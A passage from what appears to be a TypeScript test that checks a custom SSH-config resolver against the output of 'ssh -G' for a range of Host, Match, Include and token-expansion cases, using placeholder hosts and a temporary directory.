        'Host web-* !web-legacy', '  HostName %h.corp.example',
        'Host db', '  HostName 10.20.0.5', '  User dbadmin',
        'Match host *.corp.example !originalhost web-02', '  Port 2201', '  IdentityFile /k/corp',
        'Match host 10.20.0.5 user dbadmin', '  ProxyJump jump@bastion.example:2200',
        'Match originalhost db,cache !user dbadmin', '  ProxyJump other@bastion2.example',
        `Match localuser ${me} originalhost cache`, '  User cacheop',
        'Match exec "test %n = web-01 && test %r = deployer"', '  IdentityFile /k/exec-web01',
        'Match exec "echo %C %d %h %i %k %L %l %n %p %r %u %% >> $TAPSCOPE_ORACLE_TOKENS"', '  IdentityFile /k/tokens',
        'Match originalhost inc-*', `  Include ${dir}/match.conf`, '  Port 2300',
        'Host zz', `  Include ${dir}/host.conf`, '  IdentityFile /k/after',
        'Match final host *.corp.example', '  User finaluser',
        'Match canonical originalhost web-03', '  IdentityFile /k/canonical',
        'Match !final originalhost db', '  IdentityFile /k/first-pass',
        'Host 10.20.0.5', '  Port 2022',
        'Host *', '  IdentityFile /k/default',
        '',
      ].join('\n');
      const file = join(dir, 'config');
      writeFileSync(file, config);
      const cases: Array<{ alias: string; user?: string; port?: number }> = [
        { alias: 'web-01', user: 'deployer' }, { alias: 'web-02' }, { alias: 'web-03', port: 2400 }, { alias: 'web-legacy' },
        { alias: 'db' }, { alias: 'db', user: 'someone' }, { alias: 'cache' }, { alias: 'inc-a' }, { alias: 'inc-b' },
        { alias: 'zz' }, { alias: 'b-host' }, { alias: 'plain' },
      ];
      const entries = parseSshConfig(config, { file });
      const ours: unknown[] = [];
      const theirs: unknown[] = [];
      const saved = process.env.TAPSCOPE_ORACLE_TOKENS;
      try {
        for (const c of cases) {
          const args = ['-G', '-F', file, ...(c.user ? ['-l', c.user] : []), ...(c.port ? ['-p', String(c.port)] : []), c.alias];
          const out = execFileSync('ssh', args, { env: { ...process.env, TAPSCOPE_ORACLE_TOKENS: join(dir, 'tokens-ssh') }, stdio: ['ignore', 'pipe', 'pipe'] }).toString();
          const field = (k: string) => out.split('\n').filter((l) => l.startsWith(`${k} `)).map((l) => l.slice(k.length + 1));
          theirs.push({ alias: c.alias, hostname: field('hostname')[0], user: field('user')[0], port: Number(field('port')[0]), identityfile: field('identityfile'), proxyjump: field('proxyjump')[0] ?? null });
          process.env.TAPSCOPE_ORACLE_TOKENS = join(dir, 'tokens-tapscope');
          const r = await resolveHost(entries, c.alias, { user: c.user ?? null, port: c.port ?? null });
          const jump = r.proxyJump.map((j) => `${j.user ? `${j.user}@` : ''}${j.host}${j.port ? `:${j.port}` : ''}`).join(',');
          ours.push({ alias: c.alias, hostname: r.hostName, user: r.user, port: r.port, identityfile: r.identityFiles, proxyjump: jump || null });
        }
      } finally {
        if (saved === undefined) delete process.env.TAPSCOPE_ORACLE_TOKENS;
        else process.env.TAPSCOPE_ORACLE_TOKENS = saved;
      }
      expect(ours).toEqual(theirs);
      const ran = readFileSync(join(dir, 'tokens-ssh'), 'utf8');
      expect(ran.split('\n').length).toBeGreaterThan(cases.length);
      expect(readFileSync(join(dir, 'tokens-tapscope'), 'utf8')).toBe(ran);
    } finally {
      rmSync(dir, { recursive: true, force: true });
    }
  });
});
